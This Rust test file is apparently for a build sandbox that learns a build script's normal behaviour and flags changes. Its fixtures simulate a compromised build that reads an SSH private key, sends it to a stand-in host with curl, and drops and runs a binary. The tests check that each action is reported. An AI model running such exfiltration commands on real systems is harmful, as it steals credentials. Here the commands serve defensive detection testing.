//! `check`: a change of behaviour is named, and fails.

use std::fs;

use super::{RECORDING, Workshop, network::within};
use crate::kit::{Finished, Need, Network, Suite, Verdict};

const IN_A_NETWORK: &[Need] = &[
    Need::Root,
    Need::Cgroup,
    Need::Processor,
    Need::Program("unshare"),
    Need::Program("ip"),
    Need::Program("curl"),
];

/// What this subject promises.
pub(super) fn register(suite: &mut Suite) {
    suite.test(
        "learn::a_check_of_the_same_finds_nothing",
        RECORDING,
        a_check_of_the_same_finds_nothing,
    );
    suite.test(
        "learn::a_check_names_what_a_malicious_change_does",
        RECORDING,
        a_check_names_what_a_malicious_change_does,
    );
    suite.test(
        "learn::a_check_names_the_theft_the_host_and_the_program",
        IN_A_NETWORK,
        a_check_names_the_theft_the_host_and_the_program,
    );
    suite.test(
        "learn::a_check_takes_in_what_is_new_if_it_is_told_to",
        RECORDING,
        a_check_takes_in_what_is_new_if_it_is_told_to,
    );
}

const BUILD: &str = "cat input > output";

fn check(shop: &Workshop, flags: &[&str]) -> Result<Finished, libtest_mimic::Failed> {
    shop.ringfence(["check", "-p"])
        .and([shop.profile()])
        .and(flags)
        .and(["--", "sh", "build.sh"])
        .run()
}

/// A build that was learned.
fn learned() -> Result<Workshop, libtest_mimic::Failed> {
    let shop = Workshop::new()?;
    shop.work.file("input", "x")?;
    shop.work.file("build.sh", BUILD)?;
    shop.learn(&[], &["sh", "build.sh"])?;
    Ok(shop)
}

fn a_check_of_the_same_finds_nothing() -> Verdict {
    let shop = learned()?;
    check(&shop, &[])?.succeeds()?.says("0 new")?;
    Ok(())
}

fn a_check_names_what_a_malicious_change_does() -> Verdict {
    let shop = learned()?;
    let key = shop.aside.file("home/.ssh/id_ed25519", "KEY")?;
    let dropped = shop.aside.at("dropped");
    let script = format!(
        "{BUILD}\ncat $HOME/.ssh/id_ed25519 > /dev/null\ncp /bin/true {0}\n{0}\n",
        dropped.display()
    );
    shop.work.file("build.sh", &script)?;
    let finished = check(&shop, &[])?;
    finished
        .exits_with(1)?
        .says("private keys")?
        .says(&key.display().to_string())?
        .says(&format!("exec {}", dropped.display()))?
        .says(&format!("create {}", dropped.display()))?;
    Ok(())
}

/// The build of somebody who has got into it: all of what it does besides stands in one report, in the file of GitHub's summary too.
fn a_check_names_the_theft_the_host_and_the_program() -> Verdict {
    let network = Network::new()?;
    network.folder.file("home/.ssh/id_ed25519", "KEY")?;
    network.folder.file("build/build.sh", "echo x >output\n")?;
    network.folder.file("bad.sh", STOLEN)?;
    within(&network, CHANGE)?;
    let read = |name: &str| fs::read_to_string(network.folder.at(name));
    for told in ["annotations", "summary"] {
        let text = read(told)?;
        for named in ["/.ssh/id_ed25519", "other.test", "ringfence-dropped"] {
            if !text.contains(named) {
                return Err(format!("{told} does not name {named}:\n{text}").into());
            }
        }
    }
    let (annotations, code) = (read("annotations")?, read("code")?);
    if code.trim() != "1" || !annotations.contains("::error file=../learned.toml,title=") {
        return Err(format!("ended with {code}, and said\n{annotations}").into());
    }
    Ok(())
}

const STOLEN: &str = "curl -sS -m 60 --data-binary @$HOME/.ssh/id_ed25519 http://other.test:8080/hello >/dev/null
    cp /bin/true ${TMPDIR%/*}/ringfence-dropped; ${TMPDIR%/*}/ringfence-dropped; rm ${TMPDIR%/*}/ringfence-dropped\n";

const CHANGE: &str = "
    export HOME=$PWD/home; cd build
    $R learn -o ../learned.toml -- sh build.sh || exit 1
    cat ../bad.sh >>build.sh
    export GITHUB_STEP_SUMMARY=$PWD/../summary; echo before >$GITHUB_STEP_SUMMARY
    $R check -p ../learned.toml --format github -- sh build.sh >../annotations; echo $? >../code
    grep -q before $GITHUB_STEP_SUMMARY
";

fn a_check_takes_in_what_is_new_if_it_is_told_to() -> Verdict {
    let shop = learned()?;
    shop.aside.file("home/.ssh/id_ed25519", "KEY")?;
    let other = shop.aside.file("other", "y")?;
    let script = format!("{BUILD}\ncat {} $HOME/.ssh/id_ed25519\n", other.display());
    shop.work.file("build.sh", &script)?;
    let taken = check(&shop, &["--update"])?;
    taken
        .exits_with(1)?
        .says(&format!("taken into {}", shop.profile().display()))?
        .says("2 new of")?
        .says(", 1 taken in;")?
        .complains("stands as a question")?;
    let text = fs::read_to_string(shop.profile())?;
    let finished = check(&shop, &[])?;
    finished
        .exits_with(1)?
        .says("id_ed25519")?
        .does_not_say(&other.display().to_string())?;
    finished.claim(text.contains("in 1 of 2 runs"), "evidence of two runs")?;
    Ok(())
}
